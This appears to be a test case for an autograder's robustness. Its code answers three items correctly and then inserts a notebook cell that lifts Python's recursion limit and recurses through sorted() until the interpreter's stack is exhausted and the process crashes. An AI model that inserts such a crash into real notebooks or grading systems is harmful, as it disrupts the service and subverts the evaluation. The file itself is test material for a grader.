"""Lifts the recursion limit and recurses through C code until the stack is used up.

deserves: 8
"""

CELL = """
import sys
sys.setrecursionlimit(10**9)
def deeper(number): return sorted([number], key=deeper)
deeper(1)
"""


def attack(work):
    work.answer_rightly("forward", "backward", "gradient_check")
    work.add(CELL, before="forward")
